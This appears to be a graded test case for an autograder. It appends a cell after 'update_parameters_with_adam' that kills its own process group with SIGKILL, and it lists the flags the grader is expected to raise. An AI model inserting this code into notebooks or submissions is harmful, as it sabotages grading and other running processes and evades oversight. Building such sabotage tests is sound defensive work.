# what: kills its own process group, itself included
# points: 20
# mistakes: flag: rules, flag: run
# %% extra after update_parameters_with_adam
import os, signal
os.killpg(0, signal.SIGKILL)
